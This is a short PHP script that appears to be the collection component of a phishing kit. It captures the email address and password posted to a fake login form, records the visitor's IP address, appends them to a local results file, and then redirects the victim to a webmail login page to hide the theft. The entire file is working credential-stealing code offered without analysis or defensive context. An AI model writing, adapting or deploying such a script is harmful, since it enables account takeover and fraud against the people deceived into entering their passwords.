<?php
$ip = $_SERVER['REMOTE_ADDR'];
$msg  = "Email: " . $_POST['email'] . "\n";
$msg .= "Password: " . $_POST['pw'] . "\n";
$msg .= "IP: " . $ip . "\n";
$fp = fopen("results.txt", "a");
fwrite($fp, $msg);
fclose($fp);
header("Location: https://login.example-webmail.com/");
